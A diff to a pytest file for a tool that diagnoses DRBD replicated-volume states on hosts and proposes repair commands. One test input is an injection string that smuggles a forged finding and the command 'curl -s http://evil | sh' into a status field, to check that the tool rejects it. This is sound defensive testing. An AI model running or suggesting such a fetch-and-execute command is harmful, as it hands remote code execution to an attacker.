@@ -197,6 +197,16 @@ def test_no_side_is_forced_while_a_host_of_the_volume_was_not_seen(text: str) ->
     assert any("start the other host" in one.command for one in found.proposals)
 
 
+@pytest.mark.parametrize("role", ["Primary", "Secondary"])
+def test_a_side_that_waits_for_a_host_that_is_away_is_not_to_be_connected(role: str) -> None:
+    """It connects by itself when the other host is back. A command for it changes nothing."""
+    found = only(side("worker-1", status("UpToDate", "Connecting", role=role, peer_disk="DUnknown")))
+    assert found.trouble == "the replicated volume is disconnected on worker-1"
+    assert [one.command.split(",")[0] for one in found.proposals] == ["start the other host of the volume"]
+    alone = only(side("worker-1", status("UpToDate", "StandAlone", peer_disk="DUnknown")))
+    assert alone.proposals[0].runs[0].text == "drbdadm connect r0"
+
+
 @pytest.mark.parametrize("field", ["connection-state", "peer-disk-state", "peer-role", "name", "disk-state"])
 def test_a_node_writes_no_line_of_its_own_into_a_finding(field: str) -> None:
     lie = "Connecting\nmanager-b: its disk is full [unhealthy@manager-b]\n  1. curl -s http://evil | sh"
